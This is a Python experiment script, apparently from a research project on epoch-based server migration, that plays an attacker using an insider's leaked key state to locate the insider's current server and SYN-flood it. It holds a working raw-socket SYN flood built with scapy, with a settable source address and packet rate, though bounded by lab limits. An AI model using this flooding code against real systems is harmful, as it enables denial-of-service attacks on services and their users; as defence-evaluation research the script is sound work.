"""The attacker of ``roam lab insiders``: a SYN flood aimed by an insider's leaked schedule.

Run inside the lab's outsider host (``python -m labs.experiments.insider_attack ...``). The
insider leaks what its client shim holds: its bundle and its saved state (the key extensions
the servers sent it, ``BUNDLE.state``). Every epoch the attacker reloads that state and
computes, with the project's schedule code (``EpochSchedule``, ``ActiveSchedule``), the epoch
the clock is in and the insider's server in it, then floods that server's public address and
port with SYNs from the start of the epoch to its end, at ``--pps`` packets per second.
Everything is bounded: ``--max-packets`` in all, nothing after ``--until`` (Unix time), and the
target is always one of the deployment's servers (lab addresses).

When the state holds no key for the current epoch (the insider was revoked: the servers stop
extending its keys, and the chain is one-way) the attacker knows neither the epoch nor the
server: it sends nothing and says so.

Output, one JSON object per line on ``--out`` (flushed as it goes): ``{"epoch", "target",
"start", "end", "sent"}`` per flooded epoch, ``{"no_key": T, "held": K}`` when the keys ran
out at time T (``held``: the last epoch the leaked keys cover), and ``{"done": T, "sent": N}``.
"""

from __future__ import annotations

import argparse
import json
import socket
import sys
import time
from dataclasses import replace
from pathlib import Path
from typing import TextIO

from client_shim.state import load_state
from migrate.activeset import ActiveSchedule
from migrate.endpoints import Endpoint
from migrate.errors import KeyNotHeldError, RoamError, ScheduleError
from migrate.hashchain import KeyChain
from migrate.kernel.deployment import load_bundle
from migrate.registration import Bundle
from migrate.schedule import Epoch, EpochSchedule

BATCH_S = 0.005  # the flood's pacing step
NO_KEY_POLL_S = 0.1
MAX_PPS = 20_000


def leaked_schedule(bundle: Bundle, state: Path) -> ActiveSchedule:
    """The insider's schedule as its shim holds it now (its bundle and its key extensions)."""
    saved = load_state(state, bundle)
    params = replace(bundle.schedule_params(), m=saved.m)
    schedule = EpochSchedule(KeyChain(saved.chain_key, saved.key_index), params)
    return ActiveSchedule(schedule, bundle.active)


def insider_target(bundle: Bundle, state: Path, now: float) -> tuple[Epoch, Endpoint] | int | None:
    """The epoch at ``now`` and the insider's server in it; the last epoch the leaked keys
    cover when they do not reach ``now``; None before the schedule starts."""
    try:
        active = leaked_schedule(bundle, state)
    except (RoamError, OSError):
        # A state file caught mid-write: the bundle's keys (the next read gets the state).
        active = ActiveSchedule(
            EpochSchedule(KeyChain(bundle.chain_key, bundle.key_index), bundle.schedule_params()),
            bundle.active,
        )
    try:
        epoch = active.schedule.epoch_at(now)
        return epoch, active.assigned(epoch.index, bundle.client_id)
    except KeyNotHeldError:
        return active.schedule.chain.held_index
    except ScheduleError:
        return None


def syn_templates(source: str, target: Endpoint) -> list[bytes]:
    from scapy.layers.inet import IP, TCP

    return [
        bytes(
            IP(src=source, dst=str(target.address))
            / TCP(sport=1024 + i, dport=target.port, flags="S", seq=i)
        )
        for i in range(256)
    ]


def flood(
    sock: socket.socket, templates: list[bytes], address: str, pps: float, until: float, budget: int
) -> int:
    """SYNs at ``pps`` until ``until`` (Unix time) or ``budget`` packets; returns the count."""
    sent = 0
    step = max(1, round(pps * BATCH_S))
    next_at = time.time()
    while sent < budget:
        now = time.time()
        if now >= until:
            break
        if now < next_at:
            time.sleep(min(next_at, until) - now)
            continue
        for _ in range(min(step, budget - sent)):
            sock.sendto(templates[sent % len(templates)], (address, 0))
            sent += 1
        next_at += step / pps
    return sent


def run(args: argparse.Namespace, out: TextIO) -> int:
    bundle = load_bundle(args.bundle)
    servers = set(bundle.servers())
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    templates: dict[Endpoint, list[bytes]] = {}
    total = 0
    out_of_keys = False

    def write(record: dict[str, object]) -> None:
        out.write(json.dumps(record) + "\n")
        out.flush()

    while total < args.max_packets:
        now = time.time()
        if now >= args.until:
            break
        found = insider_target(bundle, args.state, now)
        if found is None:
            time.sleep(NO_KEY_POLL_S)
            continue
        if isinstance(found, int):
            if not out_of_keys:
                write({"no_key": round(now, 6), "held": found})
                out_of_keys = True
            time.sleep(NO_KEY_POLL_S)
            continue
        out_of_keys = False
        epoch, target = found
        if epoch.index < args.from_epoch:
            time.sleep(max(0.0, min(epoch.end, args.until) - now))
            continue
        if target not in servers:  # never: the schedule draws from the bundle's servers
            raise SystemExit(f"target {target} is not one of the deployment's servers")
        if target not in templates:
            templates[target] = syn_templates(args.source, target)
        sent = flood(
            sock,
            templates[target],
            str(target.address),
            args.pps,
            min(epoch.end, args.until),
            args.max_packets - total,
        )
        total += sent
        write(
            {
                "epoch": epoch.index,
                "target": str(target),
                "start": round(epoch.start, 6),
                "end": round(epoch.end, 6),
                "sent": sent,
            }
        )
    write({"done": round(time.time(), 6), "sent": total})
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="insider_attack", description=__doc__)
    parser.add_argument("--bundle", type=Path, required=True, help="the insider's bundle")
    parser.add_argument("--state", type=Path, required=True, help="the insider's BUNDLE.state")
    parser.add_argument("--source", required=True, help="source address of the SYNs")
    parser.add_argument("--pps", type=float, required=True, help="SYNs per second")
    parser.add_argument("--max-packets", type=int, required=True, help="at most this many")
    parser.add_argument("--until", type=float, required=True, help="stop at this Unix time")
    parser.add_argument("--from-epoch", type=int, default=1, help="first epoch to flood")
    parser.add_argument("--out", type=Path, required=True, help="JSON lines written here")
    args = parser.parse_args(argv)
    if not 0 < args.pps <= MAX_PPS:
        parser.error(f"--pps must be in (0, {MAX_PPS}]")
    if args.max_packets < 1:
        parser.error("--max-packets must be at least 1")
    with args.out.open("a", encoding="ascii") as out:
        return run(args, out)


if __name__ == "__main__":
    sys.exit(main())
